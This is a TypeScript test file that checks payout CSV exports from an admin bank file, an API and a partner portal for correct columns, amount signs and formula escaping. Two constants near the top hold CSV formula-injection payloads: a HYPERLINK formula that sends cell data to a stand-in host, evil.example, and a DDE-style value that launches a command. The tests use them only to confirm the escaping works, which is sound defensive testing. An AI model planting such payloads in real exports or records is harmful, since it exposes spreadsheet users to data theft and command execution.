import fs from "node:fs";
import path from "node:path";
import { eq } from "drizzle-orm";
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { GET as adminExport } from "@/app/(admin)/admin/payouts/export/route";
import { GET as portalExport } from "@/app/(partner)/portal/payouts/export.csv/route";
import { GET as apiExport } from "@/app/api/v1/payouts/[id]/export.csv/route";
import { POST as createBatch } from "@/app/api/v1/payouts/route";
import { partners } from "@/db/schema";
import { runWithSessionUser } from "@/tests/helpers/session";
import { csvCell, toCsv } from "@/lib/csv";
import { PAYOUT_CSV_COLUMNS, payoutCsvRecord } from "@/lib/payouts/csv";
import type { PayoutRow } from "@/lib/payouts/queries";
import { insertReward } from "../helpers/api-fixtures";
import { call, apiSuite } from "../helpers/http";

/** The three payout CSV doors share one column spec and one writer (docs/payouts.md#payout-csv-columns). */

const EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A2,"Bank")\nCall us';
const EVIL_KEY = '@SUM(1+1)*cmd|" /C calc"!A0\nrouting';
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

const parse = (csv: string) => Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });

describe("the CSV writer", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1+2", "'-1+2"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\tX", "'\tX"],
    ["\rX", "'\rX"],
    ['=HYPERLINK("x")\nmore', `'=HYPERLINK("x")\nmore`],
    ["-0.50", "-0.50"],
    ["120.00", "120.00"],
    ["Ann = Lee", "Ann = Lee"],
    ["", ""],
  ])("csvCell(%j) → %j", (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it("writes nulls as empty cells, dates as ISO 8601, and quotes newlines so the file parses back", () => {
    const csv = toCsv(["a", "b", "c"] as const, [
      { a: null, b: new Date("2025-01-02T03:04:05Z"), c: "=x\ny" },
      { a: 7, b: undefined, c: 'say "hi"' },
    ]);
    expect(csv).toBe('a,b,c\r\n,2025-01-02T03:04:05.000Z,"\'=x\ny"\r\n7,,"say ""hi"""');
    expect(parse(csv).data).toEqual([
      { a: "", b: "2025-01-02T03:04:05.000Z", c: "'=x\ny" },
      { a: "7", b: "", c: 'say "hi"' },
    ]);
  });

  it("keeps the sign of an amount: -50 cents is -0.50", () => {
    const row = {
      id: "p",
      partnerId: "x",
      partnerName: "Ann Lee",
      amountCents: -50,
      currency: "USD",
      status: "PENDING",
      paymentMethod: null,
      transactionId: null,
      rewardCount: 1,
      batchId: null,
      failureReason: null,
      createdBy: null,
      createdAt: new Date("2025-01-01T00:00:00Z"),
      updatedAt: new Date("2025-01-01T00:00:00Z"),
      paidAt: null,
      failedAt: null,
      partnerEmail: "a@x.test",
      partnerPayoutMethod: "PAYPAL",
      partnerPayoutDetails: null,
    } satisfies PayoutRow;
    const extras: string[] = [];
    expect(payoutCsvRecord(row, extras)).toMatchObject({ amount: "-0.50", currency: "USD", payment_method: "PAYPAL" });
    expect(payoutCsvRecord({ ...row, amountCents: -12_345 }, extras).amount).toBe("-123.45");
    expect(parse(toCsv(PAYOUT_CSV_COLUMNS, [payoutCsvRecord(row, extras)])).data[0].amount).toBe("-0.50");
  });
});

describe("every CSV export", () => {
  it("goes through lib/csv: nothing else calls papaparse's unparse or answers text/csv itself", () => {
    const root = path.resolve(import.meta.dirname, "../..");
    const walk = (dir: string): string[] =>
      fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
        const p = path.join(dir, e.name);
        return e.isDirectory() ? walk(p) : /\.tsx?$/.test(e.name) ? [p] : [];
      });
    const writers = ["app", "lib", "components"]
      .flatMap((d) => walk(path.join(root, d)))
      .filter((f) => !f.startsWith(path.join(root, "lib", "csv") + path.sep))
      .filter((f) => /\bunparse\(|["'`]text\/csv/.test(fs.readFileSync(f, "utf8")))
      .map((f) => path.relative(root, f));
    expect(writers).toEqual([]);
  });
});

describe("payout CSV exports over HTTP: admin bank file, API, portal", () => {
  const { t, admin, testPartners } = apiSuite({ admin: true, partners: 1 });
  const [p] = testPartners;
  let batchId: string;
  let payoutId: string;

  beforeAll(async () => {
    await t.db
      .update(partners)
      .set({ firstName: EVIL_NAME, lastName: "Doe", payoutDetails: { [EVIL_KEY]: "021000021" } })
      .where(eq(partners.id, p.partner.id));
    await insertReward(t.db, p.partner.id, { status: "APPROVED", amountCents: 3_000 });
    await insertReward(t.db, p.partner.id, { status: "APPROVED", amountCents: 4_050 });
    const res = await call(createBatch, "POST /api/v1/payouts", { headers: admin.headers });
    expect(res.status).toBe(201);
    batchId = res.body.batchId;
    payoutId = res.body.payouts[0].id;
  });

  async function exports() {
    const api = await call(apiExport, "GET /api/v1/payouts/[id]/export.csv", {
      params: { id: batchId },
      headers: admin.headers,
    });
    const bank = await runWithSessionUser(admin.user, () =>
      call(adminExport, "GET /admin/payouts/export", { query: { batchId } }),
    );
    const portal = await runWithSessionUser(p.user, () => call(portalExport, "GET /portal/payouts/export.csv"));
    return { api, bank, portal };
  }

  it("answer the same columns, in the spec's order, and the same line for the same payout", async () => {
    const all = await exports();
    const lines: Record<string, string>[] = [];
    for (const [door, res] of Object.entries(all)) {
      expect([door, res.status, res.headers.get("content-type")]).toEqual([door, 200, "text/csv; charset=utf-8"]);
      expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="payout/);
      const parsed = parse(res.body);
      expect(parsed.errors).toEqual([]);
      expect(parsed.meta.fields).toEqual([...PAYOUT_CSV_COLUMNS]);
      expect(parsed.data).toHaveLength(1);
      lines.push(parsed.data[0]);
    }
    expect(lines[1]).toEqual(lines[0]);
    expect(lines[2]).toEqual(lines[0]);
    expect(lines[0]).toMatchObject({
      payout_id: payoutId,
      batch_id: batchId,
      partner_id: p.partner.id,
      amount: "70.50",
      currency: "USD",
      status: "PENDING",
      reward_count: "2",
      paid_at: "",
    });
    expect(lines[0].reward_ids.split(" ")).toHaveLength(2);
  });

  it("escape a formula in a partner's name and in a payout-details key, newlines included", async () => {
    for (const [door, res] of Object.entries(await exports())) {
      const [line] = parse(res.body).data;
      expect([door, line.partner_name]).toEqual([door, `'${EVIL_NAME} Doe`]);
      expect([door, line.payout_details]).toEqual([door, `'${EVIL_KEY}: 021000021`]);
      const unsafe = Object.entries(line).filter(([, v]) => FORMULA_START.test(v) && !PLAIN_NUMBER.test(v));
      expect([door, unsafe]).toEqual([door, []]);
    }
  });
});
